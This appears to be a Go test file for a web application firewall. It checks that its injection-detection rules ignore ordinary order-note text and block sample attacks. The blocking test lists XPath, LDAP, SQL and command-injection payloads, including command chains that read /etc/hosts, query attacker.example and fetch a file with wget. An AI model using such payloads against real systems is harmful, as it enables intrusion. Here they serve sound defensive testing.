package waf

import (
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// ourDetections are the detection rules of rules.conf that look for an
// attack class in values (XPath, LDAP, SQL, command injection).
var ourDetections = []int{10140, 10141, 10142, 10143}

// inspectNote sends v as a JSON order's notes and as a search query.
func inspectNote(t *testing.T, w *WAF, v string) (body, query Verdict) {
	t.Helper()
	b := mustJSON(map[string]any{"item_id": "box-large", "quantity": 1, "notes": v})
	r := httptest.NewRequest("POST", "/warehouse/orders", strings.NewReader(b))
	r.Header.Set("Content-Type", "application/json")
	body = w.Inspect(Request{HTTP: r, Body: []byte(b)})
	q := httptest.NewRequest("GET", "/warehouse/items?"+url.Values{"q": {v}}.Encode(), nil)
	query = w.Inspect(Request{HTTP: q})
	return body, query
}

// benignText is prose and quoted code of our own, not the corpus's,
// written to sit close to what rules 10140-10143 look for: parentheses
// back to back, asterisks, "or" after a quote, a # after a quote,
// semicolons, pipes and ampersands, Markdown tables, snippets.
var benignText = []string{
	"Deliver to Gate 'B' #4, or Gate 'C' if B is closed.",
	"Two pallets (or three, if they fit) — ask for 'Frank' or 'Ana'.",
	"Price: 12.50 * 3 = 37.50 (incl. VAT); discount for orders >= 100.",
	"*** FRAGILE *** glass inside (do not stack)",
	"Use the 'express' or 'standard' option; either works.",
	"Sizes (L)(XL) are both fine.",
	"See clause 4(2)(a) and 7(1)(b) of the contract.",
	"Ratio (width)(height=2x) as in the drawing.",
	"| id | sku | qty |\n|----|-----|-----|\n| 1 | box-large | 3 |",
	"| ls | lists the files |\n| cat | prints one |",
	"& co. will pick it up on Monday",
	"Tom & Jerry's Café; cat food aisle, shelf 4",
	"3 & 4 are the free bays; ping me when done",
	"```python\nif kind == 'bulk' or len(lines) > 10:\n    ship(lines)\n```",
	"```php\n$x = self::DEFAULT;\nparent::__construct();\n```",
	"std::vector<int> v; // see /usr/include/c++",
	"The pattern is ^(\\d+)(?:-(\\d+))?$ for ranges",
	"items.filter((i) => i.qty > 0).map((i) => i.sku)",
	"=IF(AND(A2>0,B2<5),\"ok\",\"check\")",
	"Path: /home/ops/reports/*.csv (all of them)",
	"Rating: ***** (5 stars) — 'would buy again'",
	"Use a 2\" x 4\" board or a 'similar' one",
	"O'Reilly's book (2nd ed.) or the 'Camel' one",
	"Email ops@example.com (or call) — 'urgent' items first.",
	"Sizes (S|M|L) available",
	"Mix A (50%) & B (50%)",
	"Shelf A-3 || B-4, whichever is free",
	"We ship Mon–Fri (9:00–17:00); Sat by arrangement.",
	"Steps: (1) open the box; (2) check the items; (3) sign",
	"text/plain or text/html both work",
	"The import tool takes XPath such as //item[@sku] in its mapping",
	"File is C:\\exports\\(old)\\list.csv",
	"*Important*: bring ID (passport or driver's licence)",
	"Mark it 'done' #urgent",
	"Re: 'invoice' (#4711)",
	"Доставка (до 18:00) или самовывоз",
	"Formula: (a+b)*(c-d)",
	"Use (x)(y) notation for pairs",
	"Contact (Sales)|(Support), whoever answers",
	"IDs: *1234, *5678 (masked)",
	"```go\nif err != nil || len(x) == 0 {\n\treturn\n}\n```",
	"&& and || confuse people; say 'and' or 'or' instead",
	"Ask for 'Ana' or 'Luis' (they know the door code)",
	"Count (approx.)(!) is 40",
	"Colour: 'navy' or 'black'; 'red' only if nothing else",
	"1 | 2 | 3 — pick a slot",
	"(Optional) (see note) (a=b)",
}

// TestOurRulesLeaveProseAlone: the rules of ours for attack classes
// match none of benignText, in a JSON field or a query parameter.
func TestOurRulesLeaveProseAlone(t *testing.T) {
	w, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range benignText {
		body, query := inspectNote(t, w, s)
		for _, v := range []Verdict{body, query} {
			for _, id := range v.Rules {
				if slices.Contains(ourDetections, id) {
					t.Errorf("%q: rule %d matched (verdict %+v)", s, id, v)
				}
			}
		}
	}
}

// TestOurRulesCatch: attacks of each class, in spellings of our own,
// are refused by the rule written for them.
func TestOurRulesCatch(t *testing.T) {
	w, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		rule    int
		payload string
	}{
		{10140, `' or string-length(name(/*[1]))>0 or 'a'='b`},
		{10140, `x" and contains(//user/password,"a") and "1"="1`},
		{10140, `')]|//*|//*[('`},
		{10140, `//user[position()=1]/child::password`},
		{10140, `' or local-name()='user`},
		{10140, `/descendant-or-self::node()`},
		{10141, `*)(objectClass=*`},
		{10141, `admin)(!(cn=x))`},
		{10141, `x*)(|(cn=*`},
		{10141, `jsmith)(&(uid=admin)(|(uid=*`},
		{10142, `admin'#`},
		{10142, `x')) #`},
		{10142, `root" #`},
		{10143, `;id`},
		{10143, `|| whoami`},
		{10143, `"; uname -a`},
		{10143, `127.0.0.1 && cat /etc/hosts`},
		{10143, `& nslookup attacker.example`},
		{10143, `|/usr/bin/id`},
		{10143, `; /bin/sh -c 'echo x'`},
		{10143, `') ; wget http://203.0.113.9/a`},
	} {
		body, query := inspectNote(t, w, c.payload)
		for where, v := range map[string]Verdict{"body": body, "query": query} {
			if !v.Interrupted || !slices.Contains(v.Rules, c.rule) {
				t.Errorf("%q in the %s: verdict %+v, want rule %d and a refusal", c.payload, where, v, c.rule)
			}
		}
	}
}
